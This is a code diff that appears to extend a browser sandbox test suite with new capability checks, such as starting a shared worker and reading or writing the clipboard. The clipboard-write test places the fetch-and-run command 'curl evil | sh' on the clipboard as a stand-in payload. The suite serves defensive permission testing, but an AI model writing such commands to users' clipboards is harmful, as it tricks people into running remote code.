@@ -28,6 +28,11 @@ ORIGINS = [
     attempt("opens-the-site-s-files", "navigator.storage.getDirectory().then(() => true)", ORIGIN),
     attempt("lists-locks", "navigator.locks.query().then(() => true)", ORIGIN),
     attempt(
+        "starts-a-worker-that-others-share",
+        "(new SharedWorker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))), true)",
+        ORIGIN,
+    ),
+    attempt(
         "speaks-on-a-channel-of-the-site",
         "(window.channel = new BroadcastChannel('site')).postMessage('x')",
         ORIGIN,
@@ -172,6 +177,18 @@ WINDOWS = [
           document.addEventListener("pointerlockerror", () => done("error"));
         })""",
         token("allow-pointer-lock"),
+    ),
+    attempt(
+        "reads-the-clipboard",
+        "(focus(), navigator.clipboard.readText().then(() => true))",
+        permission("clipboard-read"),
+        only="chromium",
+    ),
+    attempt(
+        "writes-the-clipboard",
+        "(focus(), navigator.clipboard.writeText('curl evil | sh').then(() => true))",
+        permission("clipboard-write"),
+        gap="firefox",
     ),
     attempt(
         "asks-where-the-user-is",
